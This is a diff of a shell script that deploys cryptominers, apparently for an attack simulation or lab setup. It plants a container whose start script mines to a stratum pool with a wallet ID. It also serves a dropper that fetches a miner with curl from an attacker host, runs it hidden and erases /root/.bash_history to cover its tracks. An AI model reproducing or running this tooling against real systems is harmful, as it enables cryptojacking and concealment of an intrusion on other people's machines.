@@ -24,7 +24,7 @@ root() { # FOLDER
 # The first: a container that mines, whenever the machine runs.
 root /srv/first
 cp /run/payload/miner "/srv/first/$MINER"
-printf '#!/bin/sh\n./%s -o stratum+tcp://%s:%s -u 44wallet -p x --donate-level 1\n' "$MINER" "$OTHER" "$POOL" |
+printf '#!/bin/sh\n./%s -o %s://%s:%s -u 44wallet -p x %s\n' "$MINER" "$STRATUM" "$OTHER" "$POOL" "$FEE" |
     install -m 755 /dev/stdin /srv/first/mac.sh
 import "$OTHER" /srv/first "$IMAGE" /mac.sh
 first=$(create "$OTHER" "$CONTAINER" "{\"Image\": \"$IMAGE\", \"StopSignal\": \"SIGKILL\",
@@ -37,9 +37,9 @@ cp /run/payload/miner /srv/drop/m
 cat >/srv/drop/s <<END
 curl -fsS http://$ATTACKER/m -o $HIDDEN
 chmod 755 $HIDDEN
-pgrep -f $HIDDEN >/dev/null || $HIDDEN -B -o stratum+tcp://$ATTACKER:$POOL -u 45wallet
-rm -f /root/.bash_history
-ln -s /dev/null /root/.bash_history
+pgrep -f $HIDDEN >/dev/null || $HIDDEN -B -o $STRATUM://$ATTACKER:$POOL -u 45wallet
+rm -f $HISTORY
+ln -s /dev/null $HISTORY
 END
 serve drop python3 -m http.server 80 --directory /srv/drop
 wait_for 30 curl -fsS "http://$ATTACKER/s"
